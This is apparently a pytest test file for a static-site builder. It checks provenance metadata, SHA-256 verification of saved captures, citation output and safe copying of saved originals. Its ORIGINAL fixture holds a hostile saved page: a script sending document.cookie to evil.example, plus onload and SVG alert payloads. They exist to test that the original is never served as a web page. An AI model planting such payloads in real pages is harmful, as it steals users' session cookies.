"""Provenance: the saved original, when and where a capture was made, its byline and language, and a SHA-256
that every check and build verifies, hashing a file again only when its stat changed."""

from __future__ import annotations

import hashlib
import json
import mimetypes
import os
import time
from pathlib import Path

import pytest
from citeproc import Citation, CitationItem, CitationStylesBibliography, CitationStylesStyle, formatter
from citeproc.source.json import CiteProcJSON
from conftest import GOOD_PAGE, OTHER_CAPTURE, OTHER_PAGE, SiteFolder, assert_same_as_clean_build
from html_tools import parse_file
from pybtex.database import parse_string as pybtex_parse

from microsite.build.builder import Builder
from microsite.commands.build import build
from microsite.site import urls
from microsite.source import provenance

# A saved page as a browser keeps it: hostile, as everything from the web is.
ORIGINAL = (
    b"<!doctype html><html><head><title>Huawei talks to AT&amp;T</title>"
    b"<script>fetch('https://evil.example/?c=' + document.cookie)</script></head>"
    b'<body onload="alert(1)"><h1>Huawei talks to AT&amp;T</h1><p>Huawei is reportedly negotiating.</p>'
    b"<svg><script>alert(2)</script></svg></body></html>\n"
)
SHA = hashlib.sha256(ORIGINAL).hexdigest()
PROVENANCE = f"""\
original: saved.html
url: https://www.phonearena.com/news/talks
accessed: 2024-05-01T12:30:00Z
archive_url: https://web.archive.org/web/20240501123000/https://www.phonearena.com/news/talks
authors: [Jane Doe, "Smith, John"]
language: en-GB
sha256: {SHA}
"""
BASE_URL = "https://example.github.io/repo/"


def with_provenance(site: SiteFolder, extra: str = PROVENANCE) -> SiteFolder:
    (site.root / "seeds/saved.html").write_bytes(ORIGINAL)
    site.page(GOOD_PAGE.replace("seed: capture.txt\n", "seed: capture.txt\n" + extra, 1))
    return site


def settle(root: Path) -> None:
    """Date every file ten seconds back, so that builds trust their stats at once."""
    then = time.time() - 10
    for file in root.rglob("*"):
        os.utime(file, (then, then))


@pytest.fixture
def provenanced(site: SiteFolder) -> SiteFolder:
    return with_provenance(site)


@pytest.fixture
def built(provenanced: SiteFolder) -> Path:
    out = provenanced.root / "_site"
    build(provenanced.root, out, base_url=BASE_URL)
    return out


# ---- each key is checked ---------------------------------------------------------------


@pytest.mark.parametrize(
    ("line", "field", "says"),
    [
        ("archive_url: web.archive.org/web/2024/x", "archive_url", "is not a web address"),
        ("archive_url: https://", "archive_url", "is not a web address"),
        ("accessed: yesterday", "accessed", "is not a date or date-time"),
        ("accessed: 2024-13-01", "accessed", "is not a real date or time"),
        ("accessed: 2024-05-01T25:00:00Z", "accessed", "is not a real date or time"),
        ("language: English", "language", "is not a BCP 47 language tag"),
        ("sha256: abc123", "sha256", "is not a SHA-256 digest"),
        (f"sha256: {'g' * 64}", "sha256", "is not a SHA-256 digest"),
        ("original: missing.html", "original", "the original `missing.html` is not in"),
        ("original: ../site.yaml", "original", "is not in"),
    ],
)
def test_each_provenance_key_is_checked(site: SiteFolder, line: str, field: str, says: str):
    site.write("seeds/saved.html", "<p>saved</p>")
    site.page(GOOD_PAGE.replace("seed: capture.txt\n", f"seed: capture.txt\n{line}\n", 1))
    result = site.run("check")
    assert result.returncode == 1
    assert "Traceback" not in result.stderr + result.stdout
    report = result.stderr + result.stdout
    assert f"content/talks.md:7: {field}: " in report, report
    assert says in report, report


def test_good_provenance_passes_check_in_every_form(site: SiteFolder):
    (site.root / "seeds/saved.html").write_bytes(ORIGINAL)
    for extra in (
        PROVENANCE,
        "accessed: 2024-05-01\nlanguage: zh-Hans\nauthors: 王曦\n",
        f"accessed: 2024-05-01T12:30:00.123+08:00\nsha256: {SHA.upper()}\noriginal: saved.html\n",
        f"sha256: {hashlib.sha256(site.root.joinpath('seeds/capture.txt').read_bytes()).hexdigest()}\n",
    ):
        site.page(GOOD_PAGE.replace("seed: capture.txt\n", "seed: capture.txt\n" + extra, 1))
        result = site.run("check")
        assert result.returncode == 0, result.stderr + result.stdout


# ---- the digest is verified ------------------------------------------------------------


def test_a_capture_edited_after_its_page_was_written_fails_check(provenanced: SiteFolder):
    assert provenanced.run("check").returncode == 0
    edited = ORIGINAL.replace(b"negotiating", b"not negotiating")
    (provenanced.root / "seeds/saved.html").write_bytes(edited)
    result = provenanced.run("check")
    report = result.stderr + result.stdout
    assert result.returncode == 1
    assert "Traceback" not in report
    assert "content/talks.md:13: sha256: the capture `saved.html` has changed since this page was written" in report
    assert "git checkout -- seeds/saved.html" in report
    assert f"sha256: {hashlib.sha256(edited).hexdigest()}" in report  # the new digest, to paste if deliberate
    assert "1 problem found" in report


def test_without_an_original_the_digest_is_the_text_captures(site: SiteFolder):
    digest = hashlib.sha256((site.root / "seeds/capture.txt").read_bytes()).hexdigest()
    site.page(GOOD_PAGE.replace("seed: capture.txt\n", f"seed: capture.txt\nsha256: {digest}\n", 1))
    assert site.run("check").returncode == 0
    capture = site.root / "seeds/capture.txt"
    capture.write_text(capture.read_text(encoding="utf-8") + "Added later.\n", encoding="utf-8")
    report = site.run("build").stderr
    assert "the capture `capture.txt` has changed since this page was written" in report
    assert not (site.root / "_site").exists()


def test_a_build_hashes_a_capture_only_when_its_stat_changed(provenanced: SiteFolder, monkeypatch):
    hashed: list[str] = []
    real = provenance.sha256_of

    def counting(path):
        hashed.append(Path(path).name)
        return real(path)

    monkeypatch.setattr(provenance, "sha256_of", counting)
    root, out = provenanced.root, provenanced.root / "_site"
    provenanced.write("seeds/other.txt", OTHER_CAPTURE)
    other_digest = hashlib.sha256(OTHER_CAPTURE.encode()).hexdigest()
    provenanced.page(OTHER_PAGE.replace("seed: other.txt\n", f"seed: other.txt\nsha256: {other_digest}\n"), "other.md")
    settle(root)
    Builder(root, out).build()
    assert sorted(hashed) == ["other.txt", "saved.html"]

    hashed.clear()
    assert Builder(root, out).build().up_to_date  # a fresh process, nothing changed
    assert hashed == []

    # site.yaml changed: every page is read again, in a fresh process; no capture's stat did, so none is hashed.
    config = root / "site.yaml"
    config.write_text(config.read_text(encoding="utf-8").replace("title: Test Site", "title: Renamed"), "utf-8")
    os.utime(config, (time.time() - 5, time.time() - 5))
    assert not Builder(root, out).build().up_to_date
    assert hashed == []

    # The original saved again: that file alone is hashed again, and its copy in the output follows.
    (root / "seeds/saved.html").write_bytes(ORIGINAL)
    os.utime(root / "seeds/saved.html", (time.time() - 5, time.time() - 5))
    result = Builder(root, out).build()
    assert hashed == ["saved.html"]
    assert urls.capture_original("talks") in result.written


# ---- what the site shows -----------------------------------------------------------------


def test_the_article_page_says_where_the_capture_came_from(built: Path):
    page = parse_file(built / urls.article("talks"))
    (block,) = page.by_class("provenance")
    rows = {dt.text().strip(): dd for dt, dd in zip(block.find_all("dt"), block.find_all("dd"), strict=True)}
    assert list(rows) == [
        "Published at",
        "Captured",
        "Archive copy",
        "Authors",
        "Language",
        "Saved original",
        "Text capture",
        "SHA-256",
    ]
    assert rows["Captured"].text().strip() == "2024-05-01T12:30:00Z"
    (archive,) = rows["Archive copy"].find_all("a")
    assert archive.attrs["href"].startswith("https://web.archive.org/web/20240501123000/")
    assert rows["Authors"].text().strip() == "Jane Doe, Smith, John"
    (original,) = rows["Saved original"].find_all("a")
    assert original.attrs["download"] == "saved.html"
    assert (built / "articles" / original.attrs["href"]).resolve() == (built / urls.capture_original("talks")).resolve()
    hrefs = [a.attrs["href"] for a in rows["Text capture"].find_all("a")]
    assert hrefs == ["../captures/talks.html", "../captures/talks.txt"]
    (details,) = rows["SHA-256"].find_all("details")
    assert SHA[:12] in details.find_all("summary")[0].text() and SHA not in details.find_all("summary")[0].text()
    assert SHA in details.text()
    assert page.find_all("h1")[0].attrs["lang"] == "en-GB"


def test_only_the_rows_that_exist_are_shown(site: SiteFolder):
    out = site.root / "_site"
    build(site.root, out)
    (block,) = parse_file(out / urls.article("talks")).by_class("provenance")
    assert [dt.text() for dt in block.find_all("dt")] == ["Text capture"]
    assert not parse_file(out / urls.article("talks")).find_all("meta", name="citation_author")


def test_the_article_page_has_highwire_tags_for_zotero(built: Path):
    tags: dict[str, list[str]] = {}
    for meta in parse_file(built / urls.article("talks")).find_all("meta"):
        if meta.attrs.get("name", "").startswith("citation_"):
            tags.setdefault(meta.attrs["name"], []).append(meta.attrs["content"])
    page_url = BASE_URL + urls.article("talks")
    assert tags == {
        "citation_title": ["Huawei talks to AT&T"],
        "citation_author": ["Jane Doe", "Smith, John"],  # one tag per name, as the translator reads them
        "citation_publication_date": ["2017/12"],  # at its precision: no invented day
        "citation_date": ["2017/12"],
        "citation_journal_title": ["PhoneArena"],  # an outlet: Zotero's publicationTitle
        "citation_public_url": [page_url],
        "citation_fulltext_html_url": [page_url],
        "citation_language": ["en-GB"],
    }


def test_json_ld_names_the_authors_and_the_archive_copy(built: Path):
    (script,) = parse_file(built / urls.article("talks")).find_all("script", type="application/ld+json")
    news = json.loads(script.text())["@graph"][1]
    assert news["author"] == [{"@type": "Person", "name": "Jane Doe"}, {"@type": "Person", "name": "Smith, John"}]
    assert news["inLanguage"] == "en-GB"
    assert news["archivedAt"][1].startswith("https://web.archive.org/")


def test_csl_json_carries_author_url_and_accessed_and_citeproc_formats_them(built: Path):
    (item,) = json.loads((built / urls.citation_csl("talks")).read_text(encoding="utf-8"))
    assert item["author"] == [{"literal": "Jane Doe"}, {"literal": "Smith, John"}]
    assert item["accessed"] == {"date-parts": [[2024, 5, 1]]}
    style = CitationStylesStyle("harvard-cite-them-right", validate=False)
    bibliography = CitationStylesBibliography(style, CiteProcJSON([item]), formatter.plain)
    bibliography.register(Citation([CitationItem("talks")]))
    (entry,) = [str(text) for text in bibliography.bibliography()]
    assert "Jane Doe" in entry and "Smith, John" in entry
    assert "Available at: https://www.phonearena.com/news/talks (Accessed: May 1, 2024)" in entry


def test_bibtex_carries_author_url_and_urldate(built: Path):
    data = pybtex_parse((built / urls.citation_bibtex("talks")).read_text(encoding="utf-8"), "bibtex")
    entry = data.entries["talks"]
    assert [str(person) for person in entry.persons["author"]] == ["Doe, Jane", "{Smith, John}"]
    assert entry.fields["urldate"] == "2024-05-01"
    assert entry.fields["url"] == "https://www.phonearena.com/news/talks"
    site_wide = pybtex_parse((built / urls.DATA_CITATIONS_BIBTEX).read_text(encoding="utf-8"), "bibtex")
    assert site_wide.entries["talks"].fields["urldate"] == "2024-05-01"


# ---- the original in the output, never as a web page ---------------------------------------


def test_the_original_is_copied_byte_for_byte_under_a_name_no_host_serves_as_a_page(built: Path):
    path = urls.capture_original("talks")
    assert (built / path).read_bytes() == ORIGINAL
    name = Path(path).name
    assert Path(name).suffix.lower() not in (".html", ".htm", ".xhtml", ".mhtml", ".mht", ".svg", ".xml")
    assert mimetypes.guess_type(name)[0] in (None, "application/octet-stream")  # what http.server would send
    capture = parse_file(built / urls.capture("talks"))
    (link,) = [a for a in capture.find_all("a") if a.attrs.get("download")]
    assert link.attrs["download"] == "saved.html"
    assert (built / "captures" / link.attrs["href"]).resolve() == (built / path).resolve()
    every = [p.name for p in built.rglob("*") if p.is_file() and p.read_bytes() == ORIGINAL]
    assert every == [name]  # nowhere else, under no other name


def test_the_capture_page_links_the_text_and_the_original(built: Path):
    links = [a.attrs["href"] for a in parse_file(built / urls.capture("talks")).find_all("a")]
    assert "talks.txt" in links
    assert "originals/talks.download" in links


def test_an_incremental_rebuild_follows_the_original(provenanced: SiteFolder, tmp_path: Path):
    root, out, scratch = provenanced.root, provenanced.root / "_site", tmp_path / "clean"
    scratch.mkdir()
    builder = Builder(root, out)
    assert builder.build().full
    # The original replaced, its digest updated: the copy and the article's page are rebuilt, nothing else.
    changed = ORIGINAL.replace(b"negotiating", b"still negotiating")
    (root / "seeds/saved.html").write_bytes(changed)
    page = root / "content/talks.md"
    page.write_text(
        page.read_text(encoding="utf-8").replace(SHA, hashlib.sha256(changed).hexdigest()), encoding="utf-8"
    )
    result = builder.build()
    assert not result.full
    assert urls.capture_original("talks") in result.written
    assert (out / urls.capture_original("talks")).read_bytes() == changed
    assert_same_as_clean_build(root, out, scratch)
    # `original` removed: its copy goes with it.
    page.write_text(page.read_text(encoding="utf-8").replace("original: saved.html\n", ""), encoding="utf-8")
    page.write_text(page.read_text(encoding="utf-8").replace(f"sha256: {hashlib.sha256(changed).hexdigest()}\n", ""))
    result = builder.build()
    assert urls.capture_original("talks") in result.removed
    assert not (out / urls.capture_original("talks")).exists()
    assert_same_as_clean_build(root, out, scratch)
